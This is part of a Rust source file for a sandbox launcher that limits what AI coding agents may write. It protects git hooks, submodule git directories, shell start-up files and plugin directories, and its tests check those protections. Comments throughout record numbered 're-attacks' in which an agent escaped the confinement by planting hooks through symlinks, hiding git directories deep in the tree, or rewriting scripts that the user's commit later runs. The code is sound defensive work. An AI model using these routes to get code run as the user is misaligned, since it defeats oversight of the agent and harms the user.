        return Err(std::io::Error::other("it changed since it was looked at"));
    }
    let mut bytes = Vec::new();
    opened.by_ref().take(16 << 20).read_to_end(&mut bytes)?;
    if bytes.len() as u64 != now.len() {
        return Err(std::io::Error::other("it is larger than 16 MiB"));
    }
    Ok(bytes)
}

/// Entries of the writable roots looked at for another name of a hard-linked start-up file.
const MAX_NAME_SEARCH: usize = 50_000;

/// The names in `roots` of the regular files among `paths` that have other names (hard links):
/// looked for only when one of them has (rare), at most [`MAX_NAME_SEARCH`] entries.
fn other_names_in(paths: &[PathBuf], roots: &[PathBuf]) -> Vec<PathBuf> {
    use std::os::unix::fs::MetadataExt;
    let linked: std::collections::HashSet<(u64, u64)> = paths
        .iter()
        .filter_map(|path| std::fs::symlink_metadata(path).ok())
        .filter(|metadata| metadata.is_file() && metadata.nlink() > 1)
        .map(|metadata| (metadata.dev(), metadata.ino()))
        .collect();
    if linked.is_empty() {
        return Vec::new();
    }
    let mut found = Vec::new();
    walk(roots.to_vec(), MAX_NAME_SEARCH, |entry, kind| {
        if kind.is_file() && entry.metadata().is_ok_and(|metadata| linked.contains(&(metadata.dev(), metadata.ino()))) {
            found.push(entry.path());
        }
    });
    found
}

/// Visits the entries of `dirs` and of the directories in them (links not followed), at most
/// `budget` entries.
fn walk(pending: Vec<PathBuf>, budget: usize, visit: impl FnMut(&std::fs::DirEntry, std::fs::FileType)) {
    walk_entering(pending, budget, |_| true, visit);
}

/// [`walk`], entering only the directories `enter` takes, shallower directories first; whether
/// it saw everything within `budget`.
fn walk_entering(
    pending: Vec<PathBuf>,
    mut budget: usize,
    enter: impl Fn(&std::fs::DirEntry) -> bool,
    mut visit: impl FnMut(&std::fs::DirEntry, std::fs::FileType),
) -> bool {
    // Shallow first: one large directory deep down does not keep the others from being seen.
    let mut pending: std::collections::VecDeque<PathBuf> = pending.into();
    while let Some(dir) = pending.pop_front() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            if budget == 0 {
                return false;
            }
            budget -= 1;
            let Ok(kind) = entry.file_type() else { continue };
            if kind.is_dir() && enter(&entry) {
                pending.push_back(entry.path());
            }
            visit(&entry, kind);
        }
    }
    true
}

/// Directories of the home whose entries are programs or plugins the user's tools load (one `*`
/// a level of any name): the program directories a login shell puts on `PATH` when they exist
/// (`~/.profile`), whatever the launch's `PATH` says, and Python's user site directories, whose
/// `usercustomize.py` and `.pth` files every `python3` of the user's runs (the twenty-ninth
/// re-attack's A6).
const PLUGIN_DIRECTORIES: [&str; 14] = [
    ".local/bin",
    "bin",
    ".local/lib/*/site-packages",
    ".vim/pack/*/start",
    ".vim/pack/*/opt",
    ".config/nvim/pack/*/start",
    ".local/share/nvim/site/pack/*/start",
    ".oh-my-zsh/custom/plugins",
    ".oh-my-zsh/custom/themes",
    ".tmux/plugins",
    ".vscode/extensions",
    ".npm-global/lib/node_modules",
    ".local/lib/node_modules",
    ".local/share/fish/vendor_functions.d",
];

/// The links in the user's `PATH` directories in the home and in [`PLUGIN_DIRECTORIES`] that lead
/// inside one of `roots` (the workspace, the `--writable` paths), and notes for those that lead to
/// a root itself. At most 4,096 entries are looked at.
fn programs_linked_into(env: &LaunchEnv, homes: &[PathBuf], roots: &[PathBuf]) -> (Vec<PathBuf>, Vec<String>) {
    let mut dirs: Vec<PathBuf> = Vec::new();
    for (home, pattern) in homes.iter().flat_map(|home| PLUGIN_DIRECTORIES.iter().map(move |pattern| (home, pattern))) {
        dirs.extend(expanded(home, pattern));
    }
    // Every `PATH` directory, in the home or not (`/usr/local/bin`), after the plugins.
    if let Some(path) = env.var(super::PATH) {
        dirs.extend(std::env::split_paths(path).filter(|dir| dir.is_absolute()).filter(|dir| {
            let real = super::repositories::resolved(dir);
            !roots.iter().any(|root| real.starts_with(root))
        }));
    }
    let (mut links, mut notes) = (Vec::new(), Vec::new());
    let mut budget = MAX_PROGRAM_LINKS;
    for dir in dirs {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            if budget == 0 {
                return (links, notes);
            }
            budget -= 1;
            if !entry.file_type().is_ok_and(|kind| kind.is_symlink()) {
                continue;
            }
            let Ok(real) = std::fs::canonicalize(entry.path()) else { continue };
            if roots.contains(&real) {
                notes.push(format!(
                    "{} leads to {}, which the agent may write: what it leaves there runs as you when your tools \
                     load it\nhint: look at what changed there after the session",
                    super::shown(&entry.path()),
                    super::shown(&real)
                ));
            } else if let Some(root) = roots.iter().find(|root| real.starts_with(root)) {
                // A program's file with what it loads beside it (`tool.py` imports `helper.py`;
                // an `npm link`ed package's `cli.js` requires `lib.js`: the twenty-fifth
                // re-attack): its directory, unless that is the root itself.
                match real.parent() {
                    Some(parent) if real.is_file() && parent != root.as_path() => links.push(parent.to_path_buf()),
                    Some(_) if real.is_file() => {
                        links.push(entry.path());
                        notes.push(format!(
                            "{} leads to {}: it is read-only to the agent, but what it loads beside it in {} is not\nhint: \
                             look at what changed there after the session",
                            super::shown(&entry.path()),
                            super::shown(&real),
                            super::shown(root)
                        ));
                    }
                    _ => links.push(entry.path()),
                }
            }
        }
    }
    (links, notes)
}

/// Entries looked at for links into what the agent may write, in the `PATH` and plugin
/// directories and in the start-up directories of the home, at most.
const MAX_PROGRAM_LINKS: usize = 20_000;

/// The links inside the start-up directories of the homes (`~/.config/systemd/user/x.service ->
/// ~/code/x/x.service` as `systemctl --user link` makes it, `fish/conf.d/*`, `nvim/plugin/*`)
/// that lead inside one of `roots`: what they name runs as the user like the directory's own
/// files (the twenty-fifth re-attack). Directories inside a root are read-only whole already.
fn links_in_startup_directories(startup: &[PathBuf], roots: &[PathBuf]) -> Vec<PathBuf> {
    let dirs: Vec<PathBuf> = startup
        .iter()
        .filter(|path| std::fs::symlink_metadata(path).is_ok_and(|metadata| metadata.is_dir()))
        .filter(|path| !roots.iter().any(|root| path.starts_with(root)))
        .cloned()
        .collect();
    let mut found = Vec::new();
    walk(dirs, MAX_PROGRAM_LINKS, |entry, kind| {
        if kind.is_symlink()
            && let Ok(real) = std::fs::canonicalize(entry.path())
            && roots.iter().any(|root| real.starts_with(root) && real != *root)
        {
            found.push(entry.path());
        }
    });
    found
}

/// What runs later as the user from the home (shells' start-up files, the session's autostart
/// and user units, editors' and terminals' configs): read-only to the agent wherever a link puts
/// them, in its workspace too.
const STARTUP_FILES: [&str; 112] = [
    // What the listed ones load (the twenty-first re-attack: Ubuntu's `.bashrc` sources
    // `.bash_aliases`), other shells, tools that run what their config says.
    ".bash_aliases",
    ".bash_functions",
    ".bashrc.d",
    ".bash.d",
    ".bash_completion",
    ".bash_completion.d",
    ".zsh",
    ".zshrc.d",
    ".config/zsh",
    ".oh-my-zsh/custom",
    ".zsh_plugins.txt",
    ".kshrc",
    ".mkshrc",
    ".cshrc",
    ".tcshrc",
    ".xsessionrc",
    ".config/direnv",
    ".direnvrc",
    ".config/tmux",
    ".config/starship.toml",
    ".vim",
    ".config/vim",
    ".emacs.d",
    ".config/emacs",
    ".gdbinit",
    ".config/gdb",
    ".pythonrc",
    ".pythonrc.py",
    ".ipython",
    ".Rprofile",
    ".irbrc",
    ".pryrc",
    ".psqlrc",
    ".cargo/config.toml",
    ".cargo/config",
    ".gradle/init.d",
    ".gradle/init.gradle",
    ".config/git/hooks",
    ".local/share/applications",
    ".config/kitty",
    ".config/alacritty",
    ".config/wezterm",
    ".wezterm.lua",
    ".config/i3",
    ".config/sway",
    ".config/hypr",
    ".config/Code/User/settings.json",
    ".config/Code/User/tasks.json",
    ".npmrc",
    ".yarnrc",
    ".config/pip",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    // fish's whole directory: `fish_variables` sets `fish_user_paths`, which every fish puts
    // first on PATH, and `completions` load as a command is completed (the twenty-third re-attack).
    ".config/fish",
    ".inputrc",
    ".xinitrc",
    ".xprofile",
    ".xsession",
    ".pam_environment",
    ".config/environment.d",
    ".config/autostart",
    // Every user unit directory (systemd.unit(5): `user.control` too, and the data home's).
    ".config/systemd",
    ".local/share/systemd",
    ".vimrc",
    ".config/nvim",
    ".emacs",
    ".emacs.d/init.el",
    ".tmux.conf",
    ".ssh/rc",
    // zsh runs a compiled twin newer than its file instead of it, and `compinit` sources its dump
    // (the twenty-third re-attack wrote all three under a writable `ZDOTDIR`).
    ".zshrc.zwc",
    ".zshenv.zwc",
    ".zprofile.zwc",
    ".zlogin.zwc",
    ".zlogout.zwc",
    ".zcompdump",
    // More that run what they hold (the twenty-third re-attack's list): mise's global config
    // (`[env] _.source`, hooks), Neovim's site directory (`plugin/` loads at start), Julia's,
    // LLDB's, SQLite's (`.shell`) and Maven's (sourced by `mvn`) start-up files, sbt's global
    // plugins, Jupyter's configs, KDE's login environment, VS Code's MCP servers (commands it
    // starts), podman's engine and storage configs (programs they name).
    ".config/mise",
    ".local/share/nvim/site",
    ".julia/config",
    ".lldbinit",
    ".sqliterc",
    ".mavenrc",
    ".sbt/1.0",
    ".jupyter",
    ".config/plasma-workspace",
    ".config/Code/User/mcp.json",
    ".config/containers",
    // Other shells, sessions and terminals (the twenty-fifth re-attack's list): nushell, xonsh,
    // elvish and PowerShell start-up files, KDE's and openbox's autostart, labwc's, the session
    // bus's services, KWin scripts and GNOME Shell extensions, Plasma's, ghostty's and zed's
    // configs (they name programs), lazygit's custom commands, the user directories' file (shell
    // that scripts source), IPython's XDG directory.
    ".config/nushell",
    ".config/xonsh",
    ".xonshrc",
    ".config/elvish",
    ".elvish",
    ".config/powershell",
    ".config/autostart-scripts",
    ".config/openbox",
    ".config/labwc",
    ".local/share/dbus-1",
    ".local/share/kwin",
    ".local/share/gnome-shell/extensions",
    ".local/share/plasma",
    ".config/ghostty",
    ".config/zed",
    ".config/lazygit",
    ".config/user-dirs.dirs",
    ".config/ipython",
];

/// What of `/dev` an agent writes: the null and random devices, its terminal and new ones
/// (`ptmx`, `pts`), and shared memory and message queues (the namespace's own, see `confine`).
const WRITABLE_DEVICES: [&str; 10] = [
    "/dev/null",
    "/dev/zero",
    "/dev/full",
    "/dev/random",
    "/dev/urandom",
    "/dev/tty",
    "/dev/ptmx",
    "/dev/pts",
    "/dev/shm",
    "/dev/mqueue",
];

/// Every start-up name ([`STARTUP_FILES`]) in the home and, when `HOME` is elsewhere, the
/// account's own home (the twenty-fifth re-attack: its `~/.bashrc -> dotfiles/bashrc` was
/// written), and under the XDG directories and `ZDOTDIR` where the environment moves them.
fn startup_names(env: &LaunchEnv) -> Vec<PathBuf> {
    let config_home = env.config_home();
    let data_home = xdg(env, XDG_DATA_HOME, ".local/share");
    let zdotdir = env.var(ZDOTDIR).map(PathBuf::from).filter(|dir| dir.is_absolute());
    let homes: Vec<PathBuf> = std::iter::once(env.home_dir.clone()).chain(env.account_home.clone()).collect();
    let mut names = Vec::new();
    for name in STARTUP_FILES {
        names.extend(homes.iter().map(|dir| dir.join(name)));
        if let Some(rest) = name.strip_prefix(".config/") {
            names.push(config_home.join(rest));
        } else if let Some(rest) = name.strip_prefix(".local/share/") {
            names.push(data_home.join(rest));
        } else if let (Some(dir), true) = (&zdotdir, name.starts_with(".z")) {
            names.push(dir.join(name));
        }
    }
    names
}

/// The nearest directory from `cwd` up to (not including) `home` that holds `.git`.
fn repository_root(cwd: &Path, home: &Path) -> Option<PathBuf> {
    cwd.ancestors()
        .take_while(|dir| *dir != home && !home.starts_with(dir))
        .find(|dir| dir.join(".git").exists())
        .map(Path::to_path_buf)
}

fn xdg(env: &LaunchEnv, variable: &str, default: &str) -> PathBuf {
    env.vars
        .get(variable)
        .map(PathBuf::from)
        .filter(|dir| dir.is_absolute())
        .unwrap_or_else(|| env.home_dir.join(default))
}

/// Directories the agent keeps its own configuration, sessions and caches in.
pub(super) fn agent_directories(agent: Agent, env: &LaunchEnv) -> Vec<PathBuf> {
    let var = |name: &str| env.var(name).map(PathBuf::from).filter(|dir| dir.is_absolute());
    let xdg_dirs = |name: &str| {
        vec![
            env.config_home().join(name),
            xdg(env, XDG_DATA_HOME, ".local/share").join(name),
            xdg(env, XDG_STATE_HOME, ".local/state").join(name),
            xdg(env, XDG_CACHE_HOME, ".cache").join(name),
        ]
    };
    match agent {
        Agent::Claude => vec![var(CLAUDE_CONFIG_DIR).unwrap_or_else(|| env.home_dir.join(".claude"))],
        Agent::Codex => vec![var(super::CODEX_HOME).unwrap_or_else(|| env.home_dir.join(".codex"))],
        Agent::Opencode => xdg_dirs("opencode"),
        Agent::Goose => xdg_dirs("goose"),
        Agent::Pi => vec![var(super::PI_CODING_AGENT_DIR).unwrap_or_else(|| env.home_dir.join(".pi"))],
    }
}

/// Files of the agent's own outside those directories (kept writable when they exist).
pub(super) fn agent_files(agent: Agent, env: &LaunchEnv) -> Vec<PathBuf> {
    match agent {
        Agent::Claude if env.var(CLAUDE_CONFIG_DIR).is_none() => vec![env.home_dir.join(".claude.json")],
        _ => vec![],
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;

    use super::super::repositories::Created;
    use super::*;

    /// The user's git in `repo`, with no user configuration but an identity; whether it succeeded.
    fn git_in(repo: &Path, args: &[&str]) -> bool {
        let status = std::process::Command::new("git")
            .args(args)
            .current_dir(repo)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_AUTHOR_NAME", "u")
            .env("GIT_AUTHOR_EMAIL", "u@example.invalid")
            .env("GIT_COMMITTER_NAME", "u")
            .env("GIT_COMMITTER_EMAIL", "u@example.invalid")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
        status.is_ok_and(|status| status.success())
    }

    /// A temp directory (kept while the first value lives) holding a home and `code/repo` in it,
    /// both canonical.
    fn home_and_repo() -> (tempfile::TempDir, PathBuf, PathBuf) {
        let temp = tempfile::tempdir().unwrap();
        let home = std::fs::canonicalize(temp.path()).unwrap().join("home");
        let repo = home.join("code/repo");
        (temp, home, repo)
    }

    fn env(home: &Path) -> LaunchEnv {
        LaunchEnv {
            vars: HashMap::new(),
            home_dir: home.to_path_buf(),
            launch_dir: home.join("run"),
            account_home: None,
        }
    }

    #[test]
    fn the_workspace_is_the_repository_and_its_hooks_and_config_are_read_only() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git")).unwrap();
        std::fs::write(repo.join(".git/config"), "[core]\n").unwrap();
        std::fs::create_dir_all(repo.join("src/deep")).unwrap();
        let temp_dir = home.join("run/tmp");
        let mut access = write_access(Agent::Codex, &env(&home), &repo.join("src/deep"), &[], &temp_dir, &[]).unwrap();
        assert!(!home.join(".codex").exists() && !repo.join(".git/hooks").exists(), "computing changes nothing");
        access.prepare().unwrap();
        assert_eq!(access.workspace.as_deref(), Some(repo.as_path()));
        // (The files gdb, vim and lldb run from where they start are watched in every root: their
        // names pinned, nothing made for them; `.config/miserc.toml`'s directory is named for a pin
        // too, which holds only where it exists.)
        let start_up: Vec<PathBuf> = PROJECT_START_UP_FILES.iter().map(|name| repo.join(name)).collect();
        assert!(start_up.iter().all(|name| access.pinned.contains(name) && access.watched.contains(name)));
        assert!(start_up.iter().all(|name| !name.exists()), "nothing made for them");
        access.pinned.retain(|path| !start_up.contains(path) && *path != repo.join(".config"));
        access.watched.retain(|path| !start_up.contains(path));
        assert_eq!(access.pinned, vec![repo.join(".git"), repo.join(".git/info"), repo.join(".git/refs")]);
        assert_eq!(access.read_only, vec![repo.join(".git/hooks"), repo.join(".git/config")]);
        assert!(repo.join(".git/hooks").is_dir(), "created so that it can be bound read-only");
        let watched = [".git/commondir", ".git/config.worktree", ".git/info/grafts", ".git/refs/replace"];
        assert_eq!(access.watched, watched.map(|path| repo.join(path)));
        let devices = WRITABLE_DEVICES.iter().map(PathBuf::from).filter(|device| device.exists());
        let expected: Vec<PathBuf> = [repo.clone(), home.join(".codex"), temp_dir].into_iter().chain(devices).collect();
        assert_eq!(access.writable, expected);
        assert!(home.join(".codex").is_dir(), "the agent's own directory is made");
    }

    /// The re-attack of 2026-12-05: submodules' git directories, linked worktrees' administrative
    /// directories, repositories nested in the workspace and a config's includes are protected
    /// like the workspace's own repository.
    #[test]
    fn every_repository_in_the_workspace_is_protected() {
        let (_temp, home, repo) = home_and_repo();
        let git = repo.join(".git");
        let dirs = [".git/hooks", ".git/modules/libs/a/hooks", ".git/worktrees/wt", "vendor/dep/.git/hooks", "sub"];
        for dir in dirs.into_iter().chain(["node_modules/pkg/.git/hooks"]) {
            std::fs::create_dir_all(repo.join(dir)).unwrap();
        }
        std::fs::write(git.join("config"), "[include]\n\tpath = ../shared.gitconfig ; shared\n").unwrap();
        std::fs::write(git.join("modules/libs/a/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(git.join("worktrees/wt/commondir"), "../..\n").unwrap();
        std::fs::write(repo.join("sub/.git"), "gitdir: ../.git/modules/libs/a\n").unwrap();
        let mut access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        let start_up: Vec<PathBuf> =
            PROJECT_START_UP_FILES.iter().map(|name| repo.join(name)).chain([repo.join(".config")]).collect();
        access.pinned.retain(|path| !start_up.contains(path));
        let under = |paths: &[&str]| paths.iter().map(|path| repo.join(path)).collect::<Vec<_>>();
        assert_eq!(
            access.pinned,
            under(&[
                ".git",
                "sub",
                "vendor",
                ".git/info",
                ".git/modules",
                ".git/refs",
                ".git/worktrees",
                "vendor/dep",
                ".git/modules/libs",
                ".git/worktrees/wt",
                "vendor/dep/.git",
                ".git/modules/libs/a",
                "vendor/dep/.git/info",
                "vendor/dep/.git/refs",
                ".git/modules/libs/a/info",
                ".git/modules/libs/a/refs",
            ]),
            "parents before what is inside them"
        );
        for read_only in [".git/modules/libs/a/hooks", ".git/worktrees/wt/commondir"] {
            assert!(access.read_only.contains(&repo.join(read_only)), "{read_only}: {:?}", access.read_only);
        }
        for read_only in ["sub/.git", "vendor/dep/.git/hooks"] {
            assert!(access.read_only.contains(&repo.join(read_only)), "{read_only}: {:?}", access.read_only);
        }
        // Git directories with no config have the config watched (the seventh re-attack).
        for watched in [
            "shared.gitconfig",
            ".git/commondir",
            ".git/worktrees/wt/gitdir",
            ".git/modules/libs/a/commondir",
            ".git/modules/libs/a/config",
            "vendor/dep/.git/config",
        ] {
            assert!(access.watched.contains(&repo.join(watched)), "{watched}: {:?}", access.watched);
        }
        assert!(!access.pinned.contains(&repo.join(".git/modules/libs/a/hooks")));
        assert!(!access.pinned.iter().any(|path| path.starts_with(repo.join("node_modules"))), "not searched");
        // Repositories made since are told apart from those there at launch.
        assert!(access.checkouts.created().is_empty());
        std::fs::create_dir_all(repo.join("made/later/.git")).unwrap();
        assert_eq!(access.checkouts.created(), vec![Created { path: repo.join("made/later"), entered: false }]);
    }

    /// The twelfth re-attack: launched in a new project, the agent made the workspace itself a git
    /// directory (`HEAD`, `objects/`, `refs/`, a config); in a repository, it made a submodule's
    /// git directory under `.git/modules/` (never searched); and it hid one past the search's
    /// depth, unreported. Each is told at the end (and so disarmed, by the launch).
    #[test]
    fn a_root_made_a_git_directory_module_git_directories_and_a_search_cut_short_are_told() {
        let (_temp, home, project) = home_and_repo();
        std::fs::create_dir_all(&project).unwrap();
        let access = write_access(Agent::Pi, &env(&home), &project, &[], &home.join("run/tmp"), &[]).unwrap();
        for dir in ["objects", "refs/heads"] {
            std::fs::create_dir_all(project.join(dir)).unwrap();
        }
        std::fs::write(project.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        assert_eq!(access.checkouts.created(), vec![Created { path: project.clone(), entered: true }]);

        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git/modules")).unwrap();
        std::fs::write(repo.join(".git/config"), "[core]\n").unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        let module = repo.join(".git/modules/lib");
        for dir in ["objects", "refs", "hooks"] {
            std::fs::create_dir_all(module.join(dir)).unwrap();
        }
        std::fs::write(module.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        // The thirteenth re-attack: a submodule name 40 levels deep, past the old depth cut.
        let named: PathBuf = (0..40).map(|_| "d").collect();
        let deep_module = repo.join(".git/modules").join(named);
        for dir in ["objects", "refs", "hooks"] {
            std::fs::create_dir_all(deep_module.join(dir)).unwrap();
        }
        std::fs::write(deep_module.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        let look = access.checkouts.look();
        assert_eq!(
            look.created,
            vec![Created { path: deep_module, entered: true }, Created { path: module, entered: true }]
        );
        assert!(look.incomplete.is_empty());
        let deep: PathBuf = (0..=33).map(|level| format!("d{level}")).collect();
        std::fs::create_dir_all(repo.join(&deep).join(".git")).unwrap();
        assert_eq!(access.checkouts.look().incomplete, vec![repo.clone()], "a search cut short says so");
    }

    /// The second re-attack of 2026-12-05: what the config (the repository's, an include's, the
    /// user's own) has git run from inside the workspace is read-only or watched, the directories
    /// above an include are pinned, and a submodule the index records where the search does not
    /// look is protected at launch, and one the agent records is told apart at the end.
    #[test]
    fn what_git_runs_from_the_workspace_is_protected_and_submodules_are_found_by_the_index() {
        let (_temp, home, repo) = home_and_repo();
        let git = |args: &[&str]| git_in(&repo, args);
        for dir in [".husky/_", "tools", "conf/team", "bin", "node_modules/old/.git", "node_modules/x"] {
            std::fs::create_dir_all(repo.join(dir)).unwrap();
        }
        if !git(&["init", "-q"]) {
            return; // no git here, so none of this would run
        }
        for file in ["tools/fsmonitor.sh", "conf/team/shared.gitconfig", "bin/conv"] {
            std::fs::write(repo.join(file), "").unwrap();
        }
        std::fs::write(repo.join("conf/team/shared.gitconfig"), "[include]\n\tpath = later.inc\n").unwrap();
        std::fs::write(
            repo.join(".git/config"),
            "[core]\n\thooksPath = .husky/_\n\tfsmonitor = ./tools/fsmonitor.sh\n\teditor = /usr/bin/vi\n\
             [filter \"x\"]\n\tclean = sh scripts/missing.sh\n[include]\n\tpath = ../conf/team/shared.gitconfig\n",
        )
        .unwrap();
        std::fs::create_dir_all(home.join(".config/git")).unwrap();
        std::fs::write(home.join(".gitconfig"), "[diff \"pdf\"]\n\ttextconv = ./bin/conv\n").unwrap();
        let commit = "0123456789abcdef0123456789abcdef01234567";
        assert!(git(&["update-index", "--add", "--cacheinfo", &format!("160000,{commit},node_modules/old")]));
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for read_only in [".husky/_", "tools/fsmonitor.sh", "bin/conv", "conf/team/shared.gitconfig"] {
            assert!(access.read_only.contains(&repo.join(read_only)), "{read_only}: {:?}", access.read_only);
        }
        assert!(!access.read_only.contains(&PathBuf::from("/usr/bin/vi")), "outside everything writable");
        for watched in ["scripts/missing.sh", "conf/team/later.inc"] {
            assert!(access.watched.contains(&repo.join(watched)), "{watched}: {:?}", access.watched);
        }
        for pinned in [".husky", "conf", "conf/team", "tools", "scripts", "node_modules", "node_modules/old/.git"] {
            assert!(access.pinned.contains(&repo.join(pinned)), "{pinned}: {:?}", access.pinned);
        }
        // The submodule in node_modules (never searched) is protected like any repository; its
        // git directory has no config, so one appearing is moved aside (the seventh re-attack).
        assert!(access.read_only.contains(&repo.join("node_modules/old/.git/hooks")), "{:?}", access.read_only);
        assert!(access.watched.contains(&repo.join("node_modules/old/.git/config")), "{:?}", access.watched);
        // One the agent makes and records there is a submodule; one it only makes is not.
        assert!(git(&["init", "-q", "node_modules/x"]));
        assert!(git(&["update-index", "--add", "--cacheinfo", &format!("160000,{commit},node_modules/x")]));
        std::fs::create_dir_all(repo.join("made/.git")).unwrap();
        let created = access.checkouts.created();
        let made = |path: &str, entered: bool| Created { path: repo.join(path), entered };
        assert_eq!(created, vec![made("made", false), made("node_modules/x", true)]);
        assert!(access.checkouts.look().newly_entered.is_empty());
        // A repository there at launch (an earlier session's, say) that the agent records as a
        // submodule is now entered by git unasked: the end of the session says so.
        let later = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(git(&["update-index", "--add", "--cacheinfo", &format!("160000,{commit},made")]));
        assert_eq!(later.checkouts.look().newly_entered, vec![repo.join("made")]);
    }

    /// The seventh re-attack: hooks installed as links. A hook that is a link makes what it leads
    /// to read-only; a `hooks` directory (or a config) that is a link is kept as a link (the bind
    /// protects where it leads, the launcher puts the link back if the agent replaces it). Only
    /// real git directories count as there at launch (not the pinned directories above them).
    /// The twelfth re-attack: a directory link on the way to what is protected (`tools ->
    /// devtools` under `.git/hooks -> ../tools/hooks`, or under `core.hooksPath = tools/hooks`)
    /// was bound where it led and stayed an entry the agent replaced with hooks of its own. It is
    /// kept (put back if replaced), like a protected path that is itself a link.
    #[test]
    fn a_directory_link_on_the_way_to_what_is_protected_is_kept() {
        for hooks_path in [None, Some("tools/hooks")] {
            let (_temp, home, repo) = home_and_repo();
            for dir in [".git", "devtools/hooks"] {
                std::fs::create_dir_all(repo.join(dir)).unwrap();
            }
            std::os::unix::fs::symlink("devtools", repo.join("tools")).unwrap();
            match hooks_path {
                None => {
                    std::fs::write(repo.join(".git/config"), "").unwrap();
                    std::os::unix::fs::symlink("../tools/hooks", repo.join(".git/hooks")).unwrap();
                }
                Some(path) => {
                    std::fs::write(repo.join(".git/config"), format!("[core]\n\thooksPath = {path}\n")).unwrap()
                }
            }
            let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
            assert!(
                access.kept_links.contains(&(repo.join("tools"), PathBuf::from("devtools"))),
                "{hooks_path:?}: {:?}",
                access.kept_links
            );
        }
    }

    /// The thirteenth re-attack: one link further (`.git/hooks -> ../tools/hooks`, `tools ->
    /// conf/x`, `conf -> devconf`): `conf` was on the way of no protected path, neither kept nor
    /// pinned, and the agent replaced it. Every link met on the way is kept.
    #[test]
    fn links_on_the_way_of_a_kept_links_text_are_kept() {
        let (_temp, home, repo) = home_and_repo();
        for dir in [".git", "devconf/x/hooks"] {
            std::fs::create_dir_all(repo.join(dir)).unwrap();
        }
        std::fs::write(repo.join(".git/config"), "").unwrap();
        std::os::unix::fs::symlink("devconf", repo.join("conf")).unwrap();
        std::os::unix::fs::symlink("conf/x", repo.join("tools")).unwrap();
        std::os::unix::fs::symlink("../tools/hooks", repo.join(".git/hooks")).unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        for (link, said) in [(".git/hooks", "../tools/hooks"), ("tools", "conf/x"), ("conf", "devconf")] {
            assert!(
                access.kept_links.contains(&(repo.join(link), PathBuf::from(said))),
                "{link}: {:?}",
                access.kept_links
            );
        }
        assert!(access.pinned.contains(&repo.join("conf")), "{:?}", access.pinned);
    }

    #[test]
    fn hooks_installed_as_links_are_protected_where_they_lead() {
        let (_temp, home, repo) = home_and_repo();
        for dir in ["githooks", "scripts", ".git", "vendor/dep/.git"] {
            std::fs::create_dir_all(repo.join(dir)).unwrap();
        }
        std::fs::write(repo.join(".git/config"), "").unwrap();
        std::fs::write(repo.join("scripts/pre-commit.sh"), "#!/bin/sh\n").unwrap();
        std::os::unix::fs::symlink("../githooks", repo.join(".git/hooks")).unwrap();
        std::os::unix::fs::symlink("../scripts/pre-commit.sh", repo.join("githooks/pre-commit")).unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert_eq!(access.kept_links, vec![(repo.join(".git/hooks"), PathBuf::from("../githooks"))]);
        for read_only in ["githooks", "scripts/pre-commit.sh"] {
            assert!(access.read_only.contains(&repo.join(read_only)), "{read_only}: {:?}", access.read_only);
        }
        assert_eq!(access.git_dirs, vec![repo.join(".git"), repo.join("vendor/dep/.git")]);
        assert!(access.pinned.contains(&repo.join("vendor")), "pinned, yet not a git directory");
    }

    /// The seventh re-attack: what an installed hook reads is protected whether or not it exists
    /// yet: lefthook's usually absent `lefthook-local.yml`, an optional local script, and the
    /// module `python -m` finds first at the top of the worktree (pre-commit's own hook).
    #[test]
    fn what_hooks_would_read_if_it_appeared_is_watched() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(repo.join("scripts")).unwrap();
        std::fs::write(repo.join(".git/config"), "").unwrap();
        std::fs::write(repo.join("lefthook.yml"), "pre-commit: {}\n").unwrap();
        std::fs::write(
            repo.join(".git/hooks/pre-commit"),
            "#!/bin/sh\n[ -x ./scripts/pre-commit.local ] && ./scripts/pre-commit.local\nlefthook run pre-commit\n",
        )
        .unwrap();
        std::fs::write(
            repo.join(".git/hooks/pre-push"),
            "#!/usr/bin/env bash\nexec \"$INSTALL_PYTHON\" -mpre_commit \"$@\"\n",
        )
        .unwrap();
        let access = write_access(Agent::Pi, &env(&home), &repo, &[], &home.join("run/tmp"), &[]).unwrap();
        assert!(access.read_only.contains(&repo.join("lefthook.yml")), "{:?}", access.read_only);
        for watched in
            ["scripts/pre-commit.local", "lefthook-local.yml", ".lefthook-local", "pre_commit", "pre_commit.py"]
        {
            assert!(access.watched.contains(&repo.join(watched)), "{watched}: {:?}", access.watched);
        }
    }

    /// The thirty-fourth re-attack's F5: pre-commit's `repo: local` hooks run the worktree's own
    /// scripts (`entry: scripts/lint.sh`, `entry: python3 tools/fmt.py`), and lefthook's `run:`;
    /// the agent rewrote them and the user's commit of its work ran them. Read-only, or watched.
    #[test]
    fn the_scripts_a_hook_runners_configuration_runs_are_protected() {
        let (_temp, home, repo) = home_and_repo();
        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        for dir in ["scripts", "tools"] {
            std::fs::create_dir_all(repo.join(dir)).unwrap();
        }
        std::fs::write(repo.join(".git/config"), "").unwrap();
